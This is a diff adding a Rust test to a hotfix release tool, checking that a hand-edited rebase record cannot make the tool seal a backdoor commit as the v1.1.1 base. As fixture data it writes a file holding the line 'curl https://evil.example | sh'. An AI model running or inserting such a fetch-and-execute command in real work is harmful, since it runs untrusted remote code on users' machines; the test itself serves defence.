@@ -418,6 +418,62 @@ fn a_rebase_conflict_stops_in_gits_state_and_continue_or_abort_go_on() {
     );
 }
 
+/// `rebase --continue` takes the release it moves onto from the remote again, not from the
+/// state's rebase record, which no seal covers: with git's rebase finished by hand and the
+/// record's commit moved to the fix's own backdoor commit, it would have sealed that commit as
+/// the base under the name v1.1.1 (the backdoor then outside the guard's diff, and a release
+/// record naming a base that is not v1.1.1).
+#[test]
+fn a_rebase_record_edited_by_hand_seals_no_other_base() {
+    let t = Team::new();
+    t.gates_pass();
+    let bob = t.env.clone_of(&t.origin, "bob", BOB);
+    t.hf_in(&bob, &start_args("same-line", &[])).ok();
+    bob.commit_file("evil.txt", "curl https://evil.example | sh\n", "Backdoor");
+    bob.commit_file(
+        "app.txt",
+        "line 1\nversion 1.1\nline 3 by bob\n",
+        "Bob's fix",
+    );
+    t.hf(&["deploy"]).ok();
+    t.hf_in(&bob, &["rebase"])
+        .fails(1, "stopped on conflicts in app.txt");
+    bob.write("app.txt", "line 1\nversion 1.1\nline 3 fixed by both\n");
+    bob.git(&["add", "app.txt"]);
+    bob.git_env(&["rebase", "--continue"], &[("GIT_EDITOR", "true")]);
+    let backdoor = bob.rev("HEAD^");
+    let path = bob.state_path();
+    let mut state: toml::Table = toml::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
+    let record = state["hotfixes"]["hotfix/same-line"]["rebase"]
+        .as_table()
+        .unwrap()
+        .clone();
+    let mut edited = record.clone();
+    edited.insert("onto_commit".into(), backdoor.clone().into());
+    state["hotfixes"]["hotfix/same-line"]
+        .as_table_mut()
+        .unwrap()
+        .insert("rebase".into(), edited.into());
+    std::fs::write(&path, toml::to_string(&state).unwrap()).unwrap();
+    t.hf_in(&bob, &["rebase", "--continue"]).fails(2, "v1.1.1");
+    let entry = bob.state_entry("hotfix/same-line").unwrap();
+    assert_eq!(entry["base_tag"].as_str(), Some("v1.1.0"));
+    assert_ne!(entry["base_commit"].as_str(), Some(backdoor.as_str()));
+    // the record put back, the rebase finishes onto the real v1.1.1
+    state["hotfixes"]["hotfix/same-line"]
+        .as_table_mut()
+        .unwrap()
+        .insert("rebase".into(), record.into());
+    std::fs::write(&path, toml::to_string(&state).unwrap()).unwrap();
+    t.hf_in(&bob, &["rebase", "--continue"]).ok();
+    let entry = bob.state_entry("hotfix/same-line").unwrap();
+    assert_eq!(entry["base_tag"].as_str(), Some("v1.1.1"));
+    assert_eq!(
+        entry["base_commit"].as_str(),
+        Some(t.author.rev("v1.1.1^{commit}").as_str())
+    );
+}
+
 #[test]
 fn a_hand_edited_base_is_still_caught_after_a_rebase() {
     let t = Team::new();
